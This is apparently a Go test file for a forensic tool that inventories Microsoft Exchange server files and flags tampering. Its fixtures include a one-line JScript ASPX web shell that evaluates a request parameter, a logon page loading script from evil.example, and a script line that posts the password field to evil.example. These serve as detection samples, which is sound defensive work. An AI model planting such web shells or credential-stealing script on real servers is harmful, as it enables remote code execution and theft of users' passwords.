package collectors

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/exvet/exvet"
)

func TestFiles(t *testing.T) {
	const cache = "C/Windows/Microsoft.NET/assembly/GAC_MSIL/"
	snapshot := look(t, exchangeAt(map[string]string{
		"C/inetpub/wwwroot/iisstart.htm":                                                                   "",
		"C/inetpub/wwwroot/aspnet_client/x.ASPX. ":                                                         `<%@ Page Language="JScript"%><%eval(Request.Item["x"],"unsafe");%>`,
		"D/Exchange/FrontEnd/HttpProxy/owa/auth/logon.aspx":                                                "<form action=\"/owa/auth.owa\">\n<script src='//evil.example/x.js?key=1'></script><!-- see http://exweb/spec -->",
		"D/Exchange/FrontEnd/HttpProxy/owa/auth/15.2/scripts/flogon.js":                                    `x.open("POST", "https://evil.example:8443/a?p=" + document.getElementById("password").value); new XMLHttpRequest()`,
		"D/Exchange/FrontEnd/HttpProxy/owa/auth/15.2/themes/logon.css":                                     "a {}",
		"D/Exchange/FrontEnd/HttpProxy/owa/other.js":                                                       "",
		"D/Exchange/FrontEnd/HttpProxy/bin/exppw.dll":                                                      "MZ",
		"D/Exchange/ClientAccess/ecp/x.aspx":                                                               "\xff\xfep\x00r\x00o\x00c\x00e\x00s\x00s\x00.\x00s\x00t\x00a\x00r\x00t\x00(\x00",
		"D/Exchange/Bin/version.dll":                                                                       "MZ",
		"D/Exchange/Bin/de/x.resources.dll":                                                                "",
		"D/Exchange/Bin/EdgeTransport.exe":                                                                 "MZ",
		"D/Exchange/Bin/EdgeTransport.exe.local":                                                           "",
		"D/Exchange/Bin/other.manifest":                                                                    "",
		"D/Exchange/TransportRoles/agents/Acme/Agent.dll":                                                  "MZ",
		"D/Exchange/FIP-FS/Bin/engine.dll":                                                                 "MZ",
		cache + "Acme/v4.0_1.2.3.4__0123456789abcdef/Acme.dll":                                             "MZ",
		cache + "Acme.resources/v4.0_1.2.3.4_de_0123456789abcdef/Acme.resources.dll":                       "MZ",
		"C/Windows/assembly/NativeImages_v4.0.30319_64/Acme/1/Acme.ni.dll":                                 "MZ",
		"C/Windows/assembly/GAC_64/Old/1.0.0.0__b77a5c561934e089/Old.dll":                                  "MZ",
		"C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1/2/x.aspx.3.compiled": `<preserve resultType="3" virtualPath="/owa/auth/X.aspx" />`,
	}))
	if got := snapshot.Collected["files"]; got.Status != exvet.Complete {
		t.Fatalf("got %s %v", got.Status, got.Missing)
	}
	facts := snapshot.Facts["files"].(*Files)
	web := []string{}
	for _, file := range facts.Web {
		if file.SHA256 == "" || file.Modified == "" {
			t.Errorf("%s has no hash or time", file.Path)
		}
		web = append(web, fmt.Sprint(file.Root, " ", file.Kind, " ", file.NameKey, " ", file.Marks))
	}
	want := []string{
		"root page iisstart.htm []", "root script x.aspx [eval jscript request]",
		"front_end script logon.aspx []", "front_end page flogon.js [call password]", "back_end script x.aspx [process]",
	}
	slices.Sort(web)
	slices.Sort(want)
	if !reflect.DeepEqual(web, want) {
		t.Errorf("got %q, want %q", web, want)
	}
	links := []string{}
	for _, link := range facts.PageLinks {
		links = append(links, fmt.Sprint(link.Kind, " ", link.Host, " ", link.Line, " ", link.Text))
	}
	if want := []string{"script evil.example 2 //evil.example/x.js", "call evil.example 1 https://evil.example:8443/a"}; !reflect.DeepEqual(links, want) {
		t.Errorf("got %q", links)
	}
	programs := []string{}
	for _, program := range facts.Programs {
		programs = append(programs, program.Folder+" "+program.NameKey)
	}
	if want := []string{"front_end_bin exppw.dll", "bin EdgeTransport.exe", "bin version.dll", "agents agent.dll", "scanner engine.dll"}; !slices.EqualFunc(programs, want, strings.EqualFold) {
		t.Errorf("got %q", programs)
	}
	if len(facts.Redirections) != 1 || facts.Redirections[0].Program != "edgetransport.exe" || facts.Redirections[0].Kind != "local" {
		t.Errorf("got %+v", facts.Redirections)
	}
	if len(facts.Compiled) != 1 || facts.Compiled[0].Key != "/owa/auth/x.aspx" {
		t.Errorf("got %+v", facts.Compiled)
	}
	gac := []string{}
	for _, assembly := range facts.GAC {
		gac = append(gac, assembly.Name+" "+assembly.Version+" "+assembly.Token)
	}
	if want := []string{"Acme 1.2.3.4 0123456789abcdef", "Old 1.0.0.0 b77a5c561934e089"}; !reflect.DeepEqual(gac, want) {
		t.Errorf("got %q", gac)
	}
}

func TestFilesGaps(t *testing.T) {
	tests := []struct {
		name   string
		files  map[string]string
		status exvet.SectionStatus
		fact   string
		reason string
	}{
		{"nothing", map[string]string{}, exvet.Absent, "files", "copy inetpub"},
		{"configuration alone", map[string]string{"D/Exchange/FrontEnd/HttpProxy/owa/web.config": ""}, exvet.Absent, "files", "copy inetpub"},
		{
			"configuration of one folder", map[string]string{"D/Exchange/FrontEnd/HttpProxy/owa/web.config": "", "D/Exchange/Bin/x.dll": ""},
			exvet.Partial, "files.page_links", "only configuration files were copied",
		},
		{
			"a page too large", map[string]string{"D/Exchange/FrontEnd/HttpProxy/owa/auth/x.aspx": strings.Repeat("x", maxPage+1)},
			exvet.Partial, "files.web", "its text was not read",
		},
		{
			"folders too deep", map[string]string{"D/Exchange/FrontEnd/HttpProxy/" + strings.Repeat("a/", maxLevels+2) + "x.aspx": "", "D/Exchange/FrontEnd/HttpProxy/y.aspx": ""},
			exvet.Partial, "files.page_links", "the rest was left out",
		},
		{
			"a record that is no XML", map[string]string{"C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/a/x.compiled": "<a"},
			exvet.Partial, "files.compiled", "unexpected EOF",
		},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got := look(t, exchangeAt(test.files)).Collected["files"]
			if got.Status != test.status {
				t.Errorf("got %s %v, want %s", got.Status, got.Missing, test.status)
			}
			if !slices.ContainsFunc(got.Missing, func(m exvet.Missing) bool { return m.Facts[0] == test.fact && strings.Contains(m.Reason, test.reason) }) {
				t.Errorf("got %+v, want a gap of %s: %s", got.Missing, test.fact, test.reason)
			}
		})
	}
}

// TestPageText measures what hostile text costs: long attributes, many addresses, no end of a tag.
func TestPageText(t *testing.T) {
	start := time.Now()
	for name, text := range map[string]string{
		"no end of a tag": strings.Repeat("<script ", maxPage/8),
		"many addresses":  strings.Repeat(`.src="//a.b/c";`, maxPage/15),
		"one long word":   "eval" + strings.Repeat(" ", maxPage-4),
	} {
		marksOf("script", pageText([]byte(text)))
		if got := linksOf([]byte(text)); len(got) > maxLinks {
			t.Errorf("%s: %d links", name, len(got))
		}
	}
	if took := time.Since(start); took > 30*time.Second {
		t.Errorf("took %s", took)
	}
}
